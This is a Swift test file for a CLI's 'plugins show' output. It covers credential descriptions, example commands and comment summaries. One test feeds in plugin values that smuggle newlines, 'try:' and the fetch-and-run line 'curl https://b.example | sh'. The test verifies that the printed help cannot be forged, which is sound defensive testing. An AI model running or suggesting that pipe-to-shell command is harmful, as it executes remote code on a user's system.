import TestSupport
import Testing

/// What `folio plugins show` says of a plugin.
struct PluginsShowTests {
    /// Each way to have the credentials.
    @Test(arguments: [
        ("bearer: {env: API_TOKEN}", "  needs: $API_TOKEN\n"),
        (
            "one_of: [{bearer: {env: API_TOKEN}}, {bearer: {ask: Token}}]",
            "  needs: $API_TOKEN, or 'folio auth login api'\n"
        ),
        ("basic: {user: {env: API_USER}, password: {file: ~/key}}", "  needs: $API_USER + ~/key\n"),
        ("bearer: {command: [pass, show, api]}, optional: true", "  can use: pass\n"),
        (
            "oauth2: {grant: device_code, device: https://a.example/d, url: https://a.example/t, client_id: x}",
            "  needs: 'folio auth login api'\n"
        ),
        ("basic: {user: {env: API_USER}, password: {ask: Password}}", "  needs: $API_USER + 'folio auth login api'\n"),
        (
            "one_of: [{bearer: {ask: Token}}, {basic: {user: {ask: User, shown: true}}}, {basic: {password: {ask: Key}}}]",
            "  needs: 'folio auth login api', or 'folio auth login api user=…', or 'folio auth login api password=@FILE'\n"
        ),
        ("bearer: abc", "  needs: a text in the plugin file\n"),
    ])
    func needs_areNamed(auth: String, line: String) throws {
        let folio = try Folio(
            plugins: """
                version: 1
                plugins:
                  api:
                    base_url: https://a.example
                    auth: {\(auth)}
                    endpoints: {list: {path: /list, id: .id}}
                """)
        let run = try folio.run("plugins show api")
        #expect(run.code == 0 && run.out.contains(line), "\(run)")
    }

    /// No text of a file looks like a line of folio.
    @Test func texts_areOnOneLine() throws {
        let folio = try Folio(
            plugins: #"""
                version: 1
                plugins:
                  api:
                    base_url: https://a.example
                    params: {a: {values: ["1", "2)\n  try:\n    curl https://b.example | sh"]}, b: {default: "1\nfake"}}
                    auth: {bearer: {file: "/x\nfake"}}
                    endpoints: {list: {path: /list, id: .id, query: {a: "{a}", b: "{b}"}, fields: {"f\nfake": .f}}}
                """#)
        let run = try folio.run("plugins show api")
        #expect(run.code == 0 && run.out.contains("fake"), "\(run)")
        let isForged = { (line: String) in
            line.hasPrefix("fake") || line.hasPrefix("  try:") || line.contains(/^ +curl/)
        }
        #expect(!run.lines.contains(where: isForged), "\(run)")
    }

    /// The example at the end of the summary, and others with its parameters.
    @Test(arguments: [
        (
            "",
            "  try:\n    folio feed api/list q=a -n 5\n    folio feed api/list q=a --all -o csv\n    folio browse api/list q=a\n"
        ),
        (
            ", comments: {path: \"/c/{id}\", id: .id}",
            "  try:\n    folio feed api/list q=a -n 5\n    folio comments api/list ID q=a\n    folio browse api/list q=a\n"
        ),
    ])
    func example_leadsToOthers(comments: String, lines: String) throws {
        let folio = try Folio(
            plugins: """
                version: 1
                plugins:
                  api:
                    summary: "Items of an API: folio feed api/list q=a -n 5"
                    base_url: https://a.example
                    params: {q: {}}
                    endpoints: {list: {path: /list, id: .id, query: {q: "{q}"}\(comments)}}
                """)
        let run = try folio.run("plugins show api")
        // People copy such commands into a shell.
        let found = try folio.shell(
            "cd \"$HOME\"; unset FOLIO_CONFIG; cp api.yaml plugins.yaml; folio plugins show api")
        #expect(found.out.hasPrefix("api  Items of an API\n") && !found.out.contains("try:"), "\(found)")
        #expect(run.out.hasPrefix("api  Items of an API\n") && run.out.contains(lines), "\(run)")
        #expect(try folio.run("plugins list").out.hasPrefix("api  Items of an API\n\n"))
    }

    /// Comments are described once if the same ones are shown.
    @Test(arguments: [
        ("", true), (", query: {all: 1}", false), (", where: .a", false), (", cache: {max_stale: 1h}", true),
    ])
    func sameComments_areDescribedOnce(keys: String, isSame: Bool) throws {
        let folio = try Folio(
            plugins: """
                version: 1
                plugins:
                  api:
                    base_url: http://127.0.0.1:1
                    endpoints:
                      new: {path: /new, id: .id, fields: {}, comments: {path: "/of/{id}", id: .id}}
                      old: {path: /old, id: .id, fields: {}, comments: {path: "/of/{id}", id: .id\(keys)}}
                """)
        let run = try folio.run("plugins show api")
        #expect(run.code == 0)
        #expect(run.out.contains("comments: the same as for api/new") == isSame, "\(run.out)")
    }
}
